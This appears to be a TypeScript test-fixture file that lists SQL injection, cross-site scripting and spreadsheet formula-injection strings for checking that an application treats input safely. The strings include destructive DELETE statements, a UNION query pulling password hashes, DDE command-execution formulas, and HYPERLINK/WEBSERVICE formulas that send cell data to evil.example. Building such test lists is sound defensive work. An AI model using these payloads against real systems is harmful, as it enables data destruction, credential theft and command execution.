/** Texts that a careless program would run as SQL, for SQLite and for PostgreSQL, within quotes or not, after a backslash or not. */
export const SQL_TEXTS: readonly string[] = [
  `'`,
  `"`,
  `' OR '1'='1`,
  `' OR 1=1 --`,
  `1 OR 1=1`,
  `') OR ('1'='1`,
  `"; DELETE FROM device; --`,
  `'; DELETE FROM person; --`,
  `\\' OR 1=1 --`,
  `' UNION SELECT id, email, "passwordHash" FROM person --`,
  `'||(SELECT "secretHash" FROM session LIMIT 1)||'`,
  `'; SELECT pg_sleep(30); --`,
  `$1`,
  `:word0 ?1 @p1`,
  `$$; UPDATE organisation SET name = 1; $$`,
  `%`,
  `__%`,
  `!%`,
  `${'`'}; ATTACH DATABASE '/tmp/x' AS x; --`,
];

/** A word by which the texts below are found again on a page. */
export const MARK = 'marque-0407';

/** Texts that a careless page would show as elements, attributes or links that run. */
export const MARKUP_TEXTS: readonly string[] = [
  `<script>${MARK}()</script>`,
  `</title></textarea></style><img src=x onerror=${MARK}()>`,
  `"><svg/onload=${MARK}()>`,
  `' onmouseover='${MARK}()`,
  `" autofocus onfocus="${MARK}()`,
  `javascript:${MARK}()//`,
  `<a href="javascript:${MARK}()">x</a>`,
  `<iframe srcdoc="&lt;script&gt;${MARK}()&lt;/script&gt;">`,
  `]]><!--<img src="--><img src=x onerror=${MARK}()//">`,
  `{{constructor.constructor('${MARK}()')()}}\${${MARK}()}<%= ${MARK} %>`,
];

/** Texts that a spreadsheet would run as a formula. */
export const FORMULA_TEXTS: readonly string[] = [
  `=1+1`,
  `=cmd|'/C calc'!A0`,
  `=HYPERLINK("http://evil.example/?x="&A1,"voir")`,
  `=WEBSERVICE("http://evil.example/")`,
  `+1+1`,
  `-2+3+cmd|'/C calc'!A0`,
  `@SUM(1+1)*cmd|'/C calc'!A0`,
  `'=1+1`,
  `''=1+1`,
  `;=1+1`,
  `x,=1+1`,
  `x,=cmd|'/C calc'!A0,y`,
  `x,'=1+1`,
  `x,,''=1+1`,
  `",=1+1,"`,
  `";=1+1;"`,
  `＝1+1`,
  `＋1`,
  `－1`,
  `＠SUM(1)`,
];
